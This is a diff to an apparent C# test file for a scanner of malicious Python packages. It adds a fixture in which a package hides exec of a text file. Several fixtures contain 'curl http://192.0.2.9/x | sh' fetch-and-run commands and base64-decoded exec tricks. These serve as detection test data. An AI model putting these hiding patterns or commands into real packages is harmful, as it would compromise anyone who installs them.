@@ -41,6 +41,7 @@ public sealed class LinkedModulesTests
         { "a data file", ["setup.py", "import base64, os\nwith open(os.path.join(os.path.dirname(__file__), 'example', 'data.bin')) as f:\n    exec(base64.b64decode(f.read()))\n", "example/__init__.py", "", "example/data.bin", HiddenPython] },
         { "a data file by its path", ["setup.py", "", "example/__init__.py", "import base64, pathlib\nexec(base64.b64decode((pathlib.Path(__file__).parent / 'data.txt').read_text()))\n", "example/data.txt", HiddenPython] },
         { "parsed data", ["setup.py", "", "example/__init__.py", "import json, os\nwith open(os.path.join(os.path.dirname(__file__), 'c.json')) as f:\n    c = json.load(f)\nos.system(c['cmd'])\n", "example/c.json", """{"cmd":"curl http://192.0.2.9/x | sh"}"""] },
+        { "functions of code that is evaluated", ["setup.py", "", "example/__init__.py", "from .run import go\ngo()\n", "example/run.py", "import os\nwith open(os.path.join(os.path.dirname(__file__), 'notes.txt')) as f:\n    exec(f.read())\n", "example/notes.txt", "import os\ndef go():\n    os.system('curl http://192.0.2.9/x | sh')\n"] },
         { "data of the package", ["setup.py", "", "example/__init__.py", "import base64, pkgutil\nexec(base64.b64decode(pkgutil.get_data(__name__, 'd.txt')))\n", "example/d.txt", HiddenPython] },
         { "a module under its whole name", ["setup.py", "", "example/__init__.py", "import example.run\nexample.run.go('curl http://192.0.2.9/x | sh')\n", "example/run.py", "import os\ngo = os.system\n"] },
     };
